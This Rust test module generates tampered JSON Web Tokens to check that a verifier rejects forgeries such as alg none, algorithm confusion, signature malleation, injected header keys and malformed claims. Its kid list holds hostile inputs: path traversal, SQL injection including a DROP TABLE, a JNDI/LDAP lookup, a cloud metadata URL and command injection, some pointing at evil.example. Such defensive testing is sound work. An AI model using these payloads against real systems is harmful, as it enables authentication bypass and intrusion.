//! Every way to tamper with a token, each at random places and with random values.
//!
//! What an attacker can do needs no key of ours. Where a kind signs with our key nevertheless, it shows that the signature
//! alone is not enough: the token of another purpose, another audience or another time.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE};
use rand::RngExt;
use ring::hmac;
use serde_json::{Value, json};

use super::forge::{Scene, decode, encode, message, with, without};

/// A way to tamper, by name.
pub(crate) type Kind = (&'static str, fn(&mut Scene) -> String);

pub(crate) const KINDS: &[Kind] = &[
    ("a bit of the header's text", |scene| flipped_text(scene, 0)),
    ("a bit of the payload's text", |scene| flipped_text(scene, 1)),
    ("a bit of the signature's text", |scene| flipped_text(scene, 2)),
    ("a bit of the header's bytes", |scene| flipped_bytes(scene, 0)),
    ("a bit of the payload's bytes", |scene| flipped_bytes(scene, 1)),
    ("a bit of the signature's bytes", |scene| flipped_bytes(scene, 2)),
    ("spare bits of the last character", spare_bits),
    ("other claims under the old signature", other_claims),
    ("parts of two tokens", parts_of_two),
    ("another signature", another_signature),
    ("a signature in another form", malleated),
    ("alg none", alg_none),
    ("HS256 with the public key", public_key_as_secret),
    ("another alg", other_algorithm),
    ("an injected kid", injected_kid),
    ("the kid of another key", kid_of_another),
    ("a key in the header", key_in_the_header),
    ("a wrong typ", wrong_type),
    ("a critical extension", critical),
    ("a missing claim", missing_claim),
    ("a claim of a wrong type", claim_of_a_wrong_type),
    ("a claim of a wrong value", claim_of_a_wrong_value),
    ("a wrong lifetime", wrong_lifetime),
    ("no object of claims", no_object),
    ("a member twice", member_twice),
    ("a refresh token", refresh_token),
    ("truncated", truncated),
    ("concatenated", concatenated),
    ("extra or missing parts", extra_parts),
    ("another alphabet", other_alphabet),
    ("padded", padded),
    ("a character more", inserted),
    ("letters of another case", other_case),
    ("another serialisation", other_serialisation),
    ("too large", too_large),
];

fn flipped_text(scene: &mut Scene, part: usize) -> String {
    let good = scene.good();
    let start: usize = good.parts()[..part].iter().map(|part| part.len() + 1).sum();
    let at = start + scene.place(good.parts()[part].len());
    // Of ASCII, so that it stays a text.
    let bit = 1 << scene.place(7);
    let mut bytes = good.text.into_bytes();
    bytes[at] ^= bit;
    String::from_utf8(bytes).expect("ASCII")
}

fn flipped_bytes(scene: &mut Scene, part: usize) -> String {
    let good = scene.good();
    let mut parts = good.parts().map(str::to_owned);
    let mut bytes = decode(&parts[part]);
    let bit = scene.place(bytes.len() * 8);
    bytes[bit / 8] ^= 1 << (bit % 8);
    parts[part] = encode(bytes);
    parts.join(".")
}

/// 64 bytes are 85 characters and two bits of one more, which has room for six. All that a decoder may ignore is there:
/// one that does takes this text for the very same signature.
fn spare_bits(scene: &mut Scene) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut text = scene.good().text.into_bytes();
    let last = text.pop().expect("a signature");
    let value = ALPHABET
        .iter()
        .position(|character| *character == last)
        .expect("base64url");
    text.push(ALPHABET[value + 1 + scene.place(15)]);
    String::from_utf8(text).expect("ASCII")
}

fn other_claims(scene: &mut Scene) -> String {
    let good = scene.good();
    let id = scene.rng.random_range(1..i64::MAX);
    let changes = [
        ("sub", format!("user:{id}").into()),
        ("sub", format!("service:{id}").into()),
        ("sid", id.to_string().into()),
        ("scope", "identity.users.delete identity.users.import".into()),
        ("exp", (scene.now + 301).into()),
        ("jti", format!("{id:x}").into()),
        ("admin", true.into()),
    ];
    let (claim, value) = scene.one(&changes);
    let claims = with(&good.claims, claim, value);
    format!("{}.{}", message(&good.header, &claims), good.parts()[2])
}

fn parts_of_two(scene: &mut Scene) -> String {
    let (one, two) = (scene.good(), scene.good());
    let ([header, payload, _], [_, other_payload, signature]) = (one.parts(), two.parts());
    let swaps = [
        [header, payload, signature],
        [header, other_payload, one.parts()[2]],
        [payload, header, one.parts()[2]],
        [header, payload, payload],
    ];
    scene.one(&swaps).join(".")
}

fn another_signature(scene: &mut Scene) -> String {
    let good = scene.good();
    let random: [u8; 64] = scene.rng.random();
    match scene.place(3) {
        0 => scene.stranger.sign(good.message()),
        1 => scene.other.sign(good.message()),
        _ => format!("{}.{}", good.message(), encode(random)),
    }
}

/// The order of the group, little-endian: S and S + L are the same number in it.
const GROUP_ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

fn malleated(scene: &mut Scene) -> String {
    let good = scene.good();
    let mut signature = decode(good.parts()[2]);
    match scene.place(6) {
        0 => add_group_order(&mut signature[32..]),
        1 => signature.fill(0),
        2 => signature[..32].fill(0),
        3 => signature[32..].fill(0),
        4 => signature.truncate(scene.place(64)),
        _ => signature.extend(vec![0; 1 + scene.place(64)]),
    }
    format!("{}.{}", good.message(), encode(signature))
}

fn add_group_order(scalar: &mut [u8]) {
    let mut carry = 0;
    for (byte, summand) in scalar.iter_mut().zip(GROUP_ORDER) {
        let sum = u16::from(*byte) + u16::from(summand) + carry;
        *byte = u8::try_from(sum % 256).expect("a byte");
        carry = sum / 256;
    }
}

/// Every letter in a case of its own.
fn in_any_case(scene: &mut Scene, text: &str) -> String {
    let mut cased = |letter: char| match scene.rng.random() {
        true => letter.to_ascii_uppercase(),
        false => letter.to_ascii_lowercase(),
    };
    text.chars().map(&mut cased).collect()
}

fn alg_none(scene: &mut Scene) -> String {
    let good = scene.good();
    let alg = match scene.place(4) {
        0 => "none".into(),
        1 => Value::Null,
        2 => "".into(),
        _ => in_any_case(scene, "none").into(),
    };
    let mut header = with(&good.header, "alg", alg);
    if scene.rng.random() {
        header = without(&header, "kid");
    }
    let message = message(&header, &good.claims);
    match scene.place(4) {
        0 => format!("{message}."),
        1 => message,
        2 => scene.stranger.sign(&message),
        _ => format!("{message}.{}", good.parts()[2]),
    }
}

/// The public half in every form in which it lies around.
fn public_forms(scene: &Scene) -> Vec<Vec<u8>> {
    const SPKI_HEAD: &[u8] = b"\x30\x2a\x30\x05\x06\x03\x2b\x65\x70\x03\x21\x00";
    let raw = scene.ours.public;
    let der = [SPKI_HEAD, &raw].concat();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----",
        STANDARD.encode(&der)
    );
    let hex: String = raw.iter().map(|byte| format!("{byte:02x}")).collect();
    vec![
        raw.to_vec(),
        format!("{pem}\n").into_bytes(),
        pem.into_bytes(),
        STANDARD.encode(raw).into_bytes(),
        encode(raw).into_bytes(),
        STANDARD.encode(&der).into_bytes(),
        der,
        hex.into_bytes(),
        scene.ours.id.clone().into_bytes(),
        scene.ours.jwk().to_string().into_bytes(),
        Vec::new(),
    ]
}

fn public_key_as_secret(scene: &mut Scene) -> String {
    let good = scene.good();
    let secret = scene.one(&public_forms(scene));
    let (alg, algorithm) = scene.one(&[
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
        // The header of a good token over the MAC.
        ("EdDSA", hmac::HMAC_SHA512),
    ]);
    let message = message(&with(&good.header, "alg", alg.into()), &good.claims);
    let mac = hmac::sign(&hmac::Key::new(algorithm, &secret), message.as_bytes());
    format!("{message}.{}", encode(mac))
}

fn other_algorithm(scene: &mut Scene) -> String {
    let good = scene.good();
    let texts = [
        "HS256", "RS256", "RS384", "RS512", "PS256", "PS512", "ES256", "ES384", "ES512", "ES256K", "Ed25519",
        "Ed448", "eddsa", "EDDSA", "EdDSA ", "EdDSA\0", "A256GCM", "dir",
    ];
    let alg = match scene.place(4) {
        0 => scene.one(&[json!(0), json!(true), json!(["EdDSA"]), json!({"alg": "EdDSA"})]),
        _ => scene.one(&texts).into(),
    };
    scene.ours.token(&with(&good.header, "alg", alg), &good.claims)
}

fn injected_kid(scene: &mut Scene) -> String {
    let good = scene.good();
    let ours = &scene.ours.id;
    let kids = [
        json!("../../../../dev/null"),
        json!("/dev/null"),
        json!("/proc/self/environ"),
        json!("file:///dev/null"),
        json!(format!("./{ours}")),
        json!(format!("{ours}/../{ours}")),
        json!(format!("{ours}\0")),
        json!(format!("{ours} ")),
        json!(format!("{ours}%00")),
        json!(ours.to_lowercase()),
        json!("' OR '1'='1"),
        json!(format!("{ours}' --")),
        json!("' UNION SELECT 'c2VjcmV0' --"),
        json!("x'; DROP TABLE identity.signing_keys; --"),
        json!("https://evil.example/jwks.json"),
        json!("http://169.254.169.254/latest/meta-data"),
        json!("data:application/json,{}"),
        json!("| id"),
        json!("${jndi:ldap://evil.example}"),
        json!(scene.stranger.id),
        json!(encode(scene.stranger.public)),
        json!(scene.stranger.jwk()),
        json!([ours]),
        json!({"$ne": null}),
        json!(0),
        json!(true),
        json!(""),
        Value::Null,
    ];
    let kid = scene.one(&kids);
    scene
        .stranger
        .token(&with(&good.header, "kid", kid), &good.claims)
}

/// Signed by a key that is trusted, under the name of another one that is trusted too.
fn kid_of_another(scene: &mut Scene) -> String {
    let good = scene.good();
    let (ours, other) = (&scene.ours, &scene.other);
    let (signer, kid) = match good.is_users() {
        true => (ours, &other.id),
        false => (other, &ours.id),
    };
    signer.token(&with(&good.header, "kid", json!(kid)), &good.claims)
}

fn key_in_the_header(scene: &mut Scene) -> String {
    let good = scene.good();
    let stranger = &scene.stranger;
    let jwk = stranger.jwk();
    let members = [
        json!({"jwk": jwk}),
        json!({"jku": "https://evil.example/jwks.json"}),
        json!({"x5u": "https://evil.example/certificate.pem"}),
        json!({"x5c": [STANDARD.encode(stranger.public)]}),
        json!({"x5t": encode(stranger.public)}),
        json!({"jwk": jwk, "jku": "https://evil.example/jwks.json", "x5u": "https://evil.example/certificate.pem"}),
    ];
    let kids = [Some(json!(scene.ours.id)), Some(json!(stranger.id)), None];
    let (members, kid) = (scene.one(&members), scene.one(&kids));
    let mut header = match kid {
        Some(kid) => with(&good.header, "kid", kid),
        None => without(&good.header, "kid"),
    };
    for (member, value) in members.as_object().expect("an object") {
        header = with(&header, member, value.clone());
    }
    scene.stranger.token(&header, &good.claims)
}

fn wrong_type(scene: &mut Scene) -> String {
    let good = scene.good();
    let types = [
        json!("JWT"),
        json!("jwt"),
        json!("JWS"),
        json!("at"),
        json!("at+jwt2"),
        json!("at+jwt "),
        json!(" at+jwt"),
        json!("at jwt"),
        json!("rt+jwt"),
        json!("id+jwt"),
        json!("dpop+jwt"),
        json!("logout+jwt"),
        json!("text/at+jwt"),
        json!("application/application/at+jwt"),
        json!("application/jwt"),
        json!(""),
        json!(1),
        json!(["at+jwt"]),
        Value::Null,
    ];
    let header = match scene.place(10) {
        0 => without(&good.header, "typ"),
        _ => with(&good.header, "typ", scene.one(&types)),
    };
    scene.ours.token(&header, &good.claims)
}

fn critical(scene: &mut Scene) -> String {
    let good = scene.good();
    let critical = scene.one(&[json!([]), json!(["exp"]), json!(["b64"]), json!(["kid", "x"])]);
    let header = with(&good.header, "crit", critical);
    scene
        .ours
        .token(&with(&header, "b64", json!(false)), &good.claims)
}

/// The claims that this token has. It needs each of them.
fn claims_of(good: &Value) -> Vec<String> {
    good.as_object().expect("an object").keys().cloned().collect()
}

fn missing_claim(scene: &mut Scene) -> String {
    let good = scene.good();
    let claim = scene.one(&claims_of(&good.claims));
    scene.ours.token(&good.header, &without(&good.claims, &claim))
}

fn claim_of_a_wrong_type(scene: &mut Scene) -> String {
    let good = scene.good();
    let claim = scene.one(&claims_of(&good.claims));
    let right = &good.claims[claim.as_str()];
    let mut wrong = vec![
        json!(true),
        json!([right]),
        json!([]),
        json!({}),
        json!({"value": right}),
        Value::Null,
    ];
    match right.as_u64() {
        Some(number) => wrong.extend([
            json!(number.to_string()),
            json!(number as f64 + 0.5),
            json!(number as f64),
            json!(-1),
            json!(1e30),
        ]),
        None => wrong.extend([json!(0), json!(1.5)]),
    }
    let value = scene.one(&wrong);
    scene.ours.token(&good.header, &with(&good.claims, &claim, value))
}

fn claim_of_a_wrong_value(scene: &mut Scene) -> String {
    let good = scene.good();
    let (issuer, audience, sub) = (&scene.issuer, &scene.audience, &good.claims["sub"]);
    let sub = sub.as_str().expect("a text");
    let (_, id) = sub.split_once(':').expect("a kind and an id");
    let wrong = [
        ("iss", format!("{issuer}/")),
        ("iss", issuer.to_uppercase()),
        ("iss", "https://evil.example".to_owned()),
        ("iss", String::new()),
        ("aud", format!("{audience} ")),
        ("aud", audience.to_uppercase()),
        ("aud", format!("{audience},other")),
        ("aud", String::new()),
        ("jti", String::new()),
        ("sub", id.to_owned()),
        ("sub", format!("admin:{id}")),
        ("sub", format!("{sub} ")),
        ("sub", format!(" {sub}")),
        ("sub", sub.to_uppercase()),
        ("sub", sub.replace(':', ":+")),
        ("sub", sub.replace(':', ":0")),
        ("sub", sub.replace(':', ":-")),
        ("sub", sub.replace(':', "::")),
        ("sub", format!("{sub}000000000000")),
        ("sub", format!("{sub},user:1")),
        ("sub", String::new()),
        // The sort of the subject decides what else there must be.
        (
            "sub",
            if good.is_users() { "service:1" } else { "user:1" }.to_owned(),
        ),
    ];
    let (claim, value) = scene.one(&wrong);
    scene
        .ours
        .token(&good.header, &with(&good.claims, claim, json!(value)))
}

fn wrong_lifetime(scene: &mut Scene) -> String {
    let good = scene.good();
    let iat = good.claims["iat"].as_u64().expect("a time");
    let longest = if good.is_users() { 300 } else { 3600 };
    let more = scene.rng.random_range(1..1_000_000);
    let claims = match scene.place(6) {
        0 => with(&good.claims, "exp", json!(iat + longest + more)),
        1 => with(&good.claims, "exp", json!(iat - more)),
        2 => with(&good.claims, "exp", json!(iat)),
        3 => with(&good.claims, "exp", json!(u64::MAX)),
        4 => with(&good.claims, "nbf", json!(scene.now + 60 + more)),
        _ => {
            let later = scene.now + 60 + more;
            with(
                &with(&good.claims, "iat", json!(later)),
                "exp",
                json!(later + longest),
            )
        }
    };
    scene.ours.token(&good.header, &claims)
}

fn no_object(scene: &mut Scene) -> String {
    let good = scene.good();
    let claims = good.claims.to_string();
    let payloads = [
        String::new(),
        "null".to_owned(),
        "1".to_owned(),
        "\"user:1\"".to_owned(),
        format!("[{claims}]"),
        format!("{claims}{claims}"),
        format!("{claims},"),
        claims[1..].to_owned(),
        claims[..claims.len() - 1].to_owned(),
        claims.replace('"', "'"),
        format!("\u{feff}{claims}"),
        format!("{{\"claims\":{claims}}}"),
        // A token within the token.
        good.text.clone(),
        "[".repeat(1000),
    ];
    let payload = scene.one(&payloads);
    let header = encode(good.header.to_string());
    scene.ours.sign(&format!("{header}.{}", encode(payload)))
}

fn member_twice(scene: &mut Scene) -> String {
    let good = scene.good();
    let (mut header, mut claims) = (good.header.to_string(), good.claims.to_string());
    let (json, source) = match scene.rng.random() {
        true => (&mut header, &good.header),
        false => (&mut claims, &good.claims),
    };
    let member = scene.one(&claims_of(source));
    let last = json.len() - 1;
    json.insert_str(last, &format!(",\"{member}\":{}", source[member.as_str()]));
    scene.ours.sign(&format!("{}.{}", encode(header), encode(claims)))
}

fn refresh_token(scene: &mut Scene) -> String {
    let random: [u8; 32] = scene.rng.random();
    let refresh_token = encode(random);
    match scene.place(4) {
        0 => {
            let good = scene.good();
            format!("{}.{refresh_token}", good.message())
        }
        1 => {
            let good = scene.good();
            format!("{}.{refresh_token}.{}", good.parts()[0], good.parts()[2])
        }
        _ => refresh_token,
    }
}

fn truncated(scene: &mut Scene) -> String {
    let mut text = scene.good().text;
    let (cut, ends) = (scene.place(text.len()), scene.rng.random());
    match ends {
        true => text.truncate(cut),
        false => drop(text.drain(..=cut)),
    }
    text
}

fn concatenated(scene: &mut Scene) -> String {
    let (one, two) = (scene.good().text, scene.good().text);
    let between = scene.one(&["", ".", ",", ", ", ";", " ", " Bearer "]);
    match scene.rng.random() {
        true => format!("{one}{between}{two}"),
        false => format!("{one}{between}{one}"),
    }
}

fn extra_parts(scene: &mut Scene) -> String {
    let good = scene.good();
    let mut parts: Vec<&str> = good.parts().to_vec();
    let extra = scene.one(&["", good.parts()[0], good.parts()[1], good.parts()[2], "e30", "AA"]);
    match scene.place(4) {
        0 => drop(parts.remove(scene.place(3))),
        1 => parts[scene.place(3)] = "",
        2 => {
            let at = scene.place(4);
            parts.insert(at, extra);
        }
        _ => parts.extend([extra, extra]),
    }
    parts.join(".")
}

fn other_alphabet(scene: &mut Scene) -> String {
    loop {
        let good = scene.good();
        let parts = good.parts();
        let hex = |part: &str| decode(part).iter().map(|byte| format!("{byte:02x}")).collect();
        let mut spelt: Vec<String> = parts.map(str::to_owned).to_vec();
        let part = scene.place(3);
        spelt[part] = match scene.place(4) {
            0 => STANDARD.encode(decode(parts[part])),
            1 => STANDARD_NO_PAD.encode(decode(parts[part])),
            2 => hex(parts[part]),
            _ => URL_SAFE.encode(decode(parts[part])).replace('-', "+"),
        };
        // A part that has neither of the two characters and needs no padding is spelt alike in both alphabets.
        if spelt != parts {
            return spelt.join(".");
        }
    }
}

fn padded(scene: &mut Scene) -> String {
    let good = scene.good();
    let mut parts = good.parts().map(str::to_owned);
    let padding = scene.one(&["=", "==", "===", "%3D", "%3D%3D", "\u{3d}\u{3d}\u{3d}\u{3d}"]);
    let part = scene.place(3);
    parts[part] += padding;
    match scene.rng.random() {
        // As somebody would sign it who pads.
        true if part < 2 => scene.ours.sign(&parts[..2].join(".")),
        _ => parts.join("."),
    }
}

fn inserted(scene: &mut Scene) -> String {
    let mut text = scene.good().text;
    let character = scene.one(&[
        ' ', '\t', '\n', '\r', '\0', '.', '=', '+', '/', '%', '"', ';', '\u{7f}', '\u{a0}', 'é', '\u{200b}',
        '😀', 'A',
    ]);
    let at = scene.place(text.len() + 1);
    text.insert(at, character);
    text
}

fn other_case(scene: &mut Scene) -> String {
    let good = scene.good();
    let mut parts = good.parts().map(str::to_owned);
    let part = scene.place(3);
    let swap = |letter: char| match letter.is_ascii_uppercase() {
        true => letter.to_ascii_lowercase(),
        false => letter.to_ascii_uppercase(),
    };
    match scene.place(4) {
        0 => return good.text.to_ascii_uppercase(),
        1 => return good.text.to_ascii_lowercase(),
        2 => parts[part] = parts[part].chars().map(swap).collect(),
        _ => parts[part] = parts[part].chars().rev().collect(),
    }
    parts.join(".")
}

fn other_serialisation(scene: &mut Scene) -> String {
    let good = scene.good();
    let [header, payload, signature] = good.parts();
    let texts = [
        json!({"protected": header, "payload": payload, "signature": signature}).to_string(),
        json!({"payload": payload, "signatures": [{"protected": header, "signature": signature}]})
            .to_string(),
        format!("{header}..{signature}"),
        format!("Bearer {}", good.text),
        format!("\"{}\"", good.text),
        format!("{header}.{}.{signature}", good.claims),
        encode(&good.text),
        good.text.replace('.', "%2E"),
        good.text.replace('.', ","),
    ];
    scene.one(&texts)
}

/// More bytes than are looked at, and signed by us.
fn too_large(scene: &mut Scene) -> String {
    let good = scene.good();
    let padding = "x".repeat(6_000 + scene.place(1_000));
    scene
        .ours
        .token(&good.header, &with(&good.claims, "padding", json!(padding)))
}
